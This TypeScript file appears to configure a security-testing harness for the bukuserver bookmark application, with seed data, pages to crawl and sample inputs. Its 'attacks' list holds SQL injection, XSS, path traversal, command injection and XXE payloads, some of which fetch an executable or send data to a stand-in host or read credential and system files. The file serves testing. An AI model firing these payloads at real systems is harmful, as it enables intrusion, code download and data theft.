import type { Application } from "../application.ts";

const makeBookmarks = `
import buku
db = buku.BukuDb(dbfile="bookmarks.db")
subjects = [
    ("tide tables", "sea,tides,reference"),
    ("lighthouse keepers' letters", "sea,history,letters"),
    ("night trains to the coast", "travel,trains"),
    ("knots & splices", "sea,howto"),
    ("chart symbols, explained", "maps,reference"),
    ("a harbour-master's weblog", "sea,weblog"),
]
for i in range(72):
    title, tags = subjects[i % 6]
    db.add_rec(f"https://read.example/{title.split()[0]}/{i}?page={i % 4}", f"{title.capitalize()} ({i})", f",{tags},", f"Read up to part {i % 5}; the rest is for winter.", fetch=False)
`;

/** A server of bookmarks; its visitors search them, keep new ones with tags and a note, and correct what they kept. */
export const bukuserver: Application = {
  name: "bukuserver",
  packages: { pip: ["buku[server]==5.0"] },
  files: () => ({ "make.py": makeBookmarks }),
  prepare: () => [["python3", "make.py"]],
  start: ({ port }) => ["bukuserver", "run", "--host", "127.0.0.1", "--port", String(port)],
  // It reads the title of each page that is kept: nothing leaves the machine, and the title is the visitor's.
  env: {
    BUKUSERVER_DB_FILE: "bookmarks.db",
    BUKUSERVER_SECRET_KEY: "spindrift-and-marram",
    BUKUSERVER_AUTOFETCH: "false",
    http_proxy: "http://127.0.0.1:9",
    https_proxy: "http://127.0.0.1:9",
  },
  ready: "/",
  async submit(page) {
    // The field of tags lays a list over the button; leaving the field takes the tag and closes the list.
    await page.keyboard.press("Tab");
    await page.waitForTimeout(200);
    return false;
  },
  pages: [
    "/",
    "/bookmark/",
    "/bookmark/new/",
    "/bookmark/new/?url=/bookmark/",
    "/bookmark/edit/?id=9",
    "/bookmark/edit/?id=31&url=/bookmark/",
    "/bookmark/edit/?id=4",
    "/bookmark/edit/?id=23&url=/bookmark/",
    "/bookmark/?flt1_buku_search=sea",
    "/bookmark/details/?id=17",
    "/tag/",
    "/tag/edit/?id=letters",
    "/bookmark/?flt0_tags_contain=maps&page_size=10",
  ],
  avoid: /delete|apidocs|refresh|tiny|read\.example|bookmarklet|github/i,
  texts: {
    searches: [
      "tides",
      "keepers' letters",
      "knots & splices",
      "harbour-master",
      "night train -sleeper",
      "chart symbols",
      "Dover..Calais",
      "part 3",
      "^Tide",
      "light(house|ship)",
      "sea,maps",
      "tag:howto",
      "C++ navigation",
      "50°N 5°W",
      "bowline or sheet bend",
      "what's a neap tide?",
      '"to the coast"',
      "https://read.example/night",
      "for winter;",
      "\\bbuoy\\b",
      "Wattwanderung",
      "маяк",
      "灯台",
      "100% cotton line",
      "fog + signal",
      "the select committee on wrecks",
    ],
    lines: [
      "https://read.example/almanac/2027?port=st-malo&unit=m",
      "https://www.example.org/fyr/?q=a%20b&lang=da#karta",
      "http://tides.example:8080/api/v2/levels.json?from=2026-11-01&to=2026-11-30",
      "https://example.net/~keeper/log.php?id=77&sort=date,desc",
      "https://example.com/wiki/Beaufort_(scale)",
      "https://ru.example/wiki/%D0%9C%D0%B0%D1%8F%D0%BA",
      "ftp://ftp.example.org/pub/charts/README",
      "Beaufort scale -- the long version",
      "Keeper's log, vol. 2",
      "O'Brien's \"Splicing by feel\"",
      "Why is the sea (so) salty?",
      "Leuchtturmwärter gesucht!",
      "L'horaire des marées",
      "La niebla & el faro",
      "sea,history",
      "howto, knots, rope",
      "maps;charts",
      "to-read,winter",
      "c#,tools",
      "r&d",
      "trains > planes",
      "読みかけ,灯台",
      "⚓ harbour",
      "tl;dr",
      "Tide = 12 h 25 min ± 5%",
      "20% off sea charts",
      "Drop-down anchors, compared",
      "letters from '38",
    ],
    long: [
      "Read up to chapter 4; the part about the fog bell's clockwork (p. 61) is worth copying out.",
      "Somebody's scans of the keepers' letters. Not all are dated; \"No. 17\" is missing.\n\nCompare: https://read.example/lighthouse/7?page=3#no-17",
      "- bowline\n- sheet bend (double it if the line is < 6 mm)\n- *never* a granny knot\n\n> if you can't tie knots, tie lots",
      "Height at time t: h(t) = A·cos(ωt + φ), ω ≈ 0,5059 rad/h. The table's ±0.3 m; check the barometer.",
      "curl -s 'https://tides.example/levels?port=brest' | jq '.[] | select(.h > 6.5) | .t'   # works without a key",
      "import datetime as dt\nlow = dt.datetime(2026, 3, 14, 9, 12)\nprint([low + i * dt.timedelta(minutes=745) for i in range(4)])",
      "Der Nachtzug fährt nur bis Ende Oktober; Liegewagen ab 39 €, Fahrrad kostet 12 % extra.",
      "On y va en juin ? L'auberge est à 300 m de la gare (demander « Chez l'Anglaise »).",
      "Старые карты можно скачать целиком; легенда — на стр. 8.",
      "海図の記号一覧。PDFは重い(48MB)。",
      "<b>Old link was dead</b>, this is the archive's copy. & the pictures don't load; use the text version.",
      'Where they say "drop the table of soundings" they mean the printed insert; it\'s been left out since 1987 -- select your own datum.',
      "Saved for Mum's birthday; don't show her! 🎂",
      "config for the receiver:\n[gps]\ndevice=/dev/ttyUSB0\nbaud=4800\nfilter=!GPGSV; keep=$GPRMC",
      "See also C:\\charts\\north\\index.txt and ~/Documents/charts (2)/index.txt - same thing, newer date.",
      "dead since spring? returns 403 w/o cookies, 200 with; try again later (or ask: webmaster at example dot org)",
      "1. print p. 3-9\n2. laminate\n3. hang next to the wheel; the old one's unreadable",
    ],
  },
  attacks: [
    { class: "sql_injection", payload: "tides%' AND 7433=7433 AND 'a%'='a" },
    {
      class: "sql_injection",
      payload: "sea%27%29%20UNION%20SELECT%20id%2CURL%2Cmetadata%2Ctags%2Cdesc%2Cflags%20FROM%20bookmarks--%20",
    },
    {
      class: "sql_injection",
      payload: "4 OR 1 GROUP BY CONCAT(0x7171,(SELECT DATABASE()),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
    },
    {
      class: "sql_injection",
      payload: "knots\"; EXEC master..xp_cmdshell 'certutil -urlcache -f http://192.0.2.44/b.exe b.exe';--",
    },
    {
      class: "sql_injection",
      payload: "letters' || (SELECT UTL_HTTP.REQUEST('http://192.0.2.44/'||USER) FROM DUAL) || '",
    },
    { class: "sql_injection", payload: "17;WAITFOR/**/DELAY/**/'0:0:9'--" },
    {
      class: "xss",
      payload: "javascript:void(document.body.appendChild(document.createElement('script')).src='//192.0.2.44/h.js')",
    },
    { class: "xss", payload: "Tides</title><script src=https://192.0.2.44/x></script>" },
    { class: "xss", payload: "<svg><animate onbegin=prompt(document.cookie) attributeName=x dur=1s>" },
    { class: "xss", payload: '<IMG """><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>">' },
    {
      class: "xss",
      payload: '\\u003cobject data=javascript:\\u0061lert(1)\\u003e<object data="javascript:alert(parent.name)">',
    },
    { class: "path_traversal", payload: "file:///etc/ssh/sshd_config" },
    { class: "path_traversal", payload: "/bookmark/..;/..;/..;/WEB-INF/web.xml" },
    { class: "path_traversal", payload: "..%5c..%5c..%5c..%5cinetpub%5cwwwroot%5cweb.config" },
    { class: "path_traversal", payload: "../../.local/share/buku/../../../../var/log/auth.log" },
    { class: "command_injection", payload: "https://read.example/$(sleep$IFS$()8)" },
    { class: "command_injection", payload: "a,b`nslookup$IFS$()k3.192.0.2.44.nip.example`" },
    { class: "command_injection", payload: "#{T(java.lang.Runtime).getRuntime().exec('cmd.exe /c whoami')}" },
    {
      class: "command_injection",
      payload: "{{request.application.__globals__.__builtins__.__import__('os').popen('env').read()}}",
    },
    {
      class: "xxe",
      payload:
        '<?xml version="1.0"?><!DOCTYPE xbel [<!ELEMENT xbel ANY><!ENTITY s SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/hostname">]><xbel><title>&s;</title></xbel>',
    },
  ],
};
